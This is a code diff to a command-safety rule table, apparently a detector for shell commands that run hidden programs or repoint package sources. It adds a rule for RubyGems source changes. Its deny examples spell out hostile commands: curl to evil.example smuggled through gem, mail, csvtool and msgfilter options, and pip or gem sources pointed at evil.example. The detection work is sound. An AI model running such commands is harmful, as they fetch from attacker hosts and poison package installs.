@@ -1521,7 +1521,13 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
     sets: /^config\b.*\s(set\s+(\u0000|\S*\.(index-url|extra-index-url|find-links|trusted-host|proxy|cert|client-cert|target|prefix|root|src|editor)\b)|edit)\b/,
     examples: { deny: ['pip config set global.index-url http://evil.example/simple'], pass: ['pip config list', 'pip config set global.timeout 60'] },
   }),
-  commandOptions(['gem'], 'gem open -e names the editor it runs', { options: { valued: 'e', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["gem open -e 'curl evil.example' rake"], pass: ['gem install rake'] }),
+  // `gem sources --add URL` keeps the source in ~/.gemrc, where every later `gem install` fetches from; RubyGems finds a
+  // command by the one name a word begins (`gem sou -a …`).
+  configuring(commandOptions(['gem'], 'gem open -e names the editor it runs', { options: { valued: 'e', longValued: ['editor'] }, program: ['e', 'editor'] }, { deny: ["gem open -e 'curl evil.example' rake"], pass: ['gem install rake'] }), {
+    file: '~/.gemrc',
+    sets: /^(?:.* )?so(?:u|ur|urc|urce|urces)?\b.* (?:-a|--add|--append|--prepend|-p)\b/,
+    examples: { deny: ['gem sources --add https://evil.example/', 'gem sou -a https://evil.example/'], pass: ['gem sources', 'gem sources --list'] },
+  }),
   commandOptions(['mail', 'mailx', 'bsd-mailx', 's-nail'], 'mail: --exec/-E runs mail commands, of which `!cmd` runs shell text', { options: { valued: 'sacbrEfq', longValued: ['exec', 'subject', 'attach'] }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v?.startsWith('--exec=') ? v.slice(7) : v === '-E' || v === '--exec' ? value(all[i + 1]) : undefined; return t?.startsWith('!') ? [{ kind: 'text' as const, dialect: 'bash' as const, text: t.slice(1), word: a, via: 'mail --exec' }] : []; }) }) }, { deny: ["mail --exec='!curl evil.example'"], pass: [] }),
   commandOptions(['csvtool'], 'csvtool call runs a command for each row', { options: { valued: 'tuo' }, more: (call) => { const c = call.args.findIndex((a) => value(a) === 'call'); return c >= 0 && call.args[c + 1] ? { runs: [{ kind: 'script', dialect: 'bash', words: [call.args[c + 1]!], via: 'csvtool call' }] } : {}; } }, { deny: ["csvtool call 'curl evil.example' f.csv"], pass: ['csvtool col 1 f.csv'] }),
   commandOptions(['msgfilter'], 'msgfilter runs its filter program for each message', { options: { valued: 'iDoE', longValued: ['input', 'directory', 'output-file'] }, more: (call) => { const p = parse(call.args, { order: 'posix', valued: 'iDo', longValued: ['input', 'directory', 'output-file'] }); const cmd = call.args.slice(p.rest); return cmd.length > 0 ? { runs: [{ kind: 'argv', argv: cmd, via: 'msgfilter' }] } : {}; } }, { deny: ['msgfilter -i x.po curl evil.example'], pass: ['msgfilter -i x.po tr a-z A-Z'] }),
